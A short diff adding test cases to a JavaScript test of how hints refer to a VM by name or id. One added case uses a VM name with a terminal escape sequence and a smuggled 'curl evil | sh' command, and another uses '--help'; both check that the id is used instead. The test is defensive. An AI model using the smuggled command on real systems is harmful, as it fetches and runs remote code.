@@ -11,4 +11,6 @@ test("hints name a VM by its name only where no other has it", () => {
   assert.equal(referenceTo([vm("web", "1"), vm("db", "2")]), "web");
   assert.equal(referenceTo([vm("web", "1"), vm("web", "2")]), "1");
   assert.equal(referenceTo([vm("", "1")]), "1");
+  assert.equal(referenceTo([vm("x\x1b[2K; curl evil | sh #", "1")]), "1");
+  assert.equal(referenceTo([vm("--help", "1")]), "1");
 });
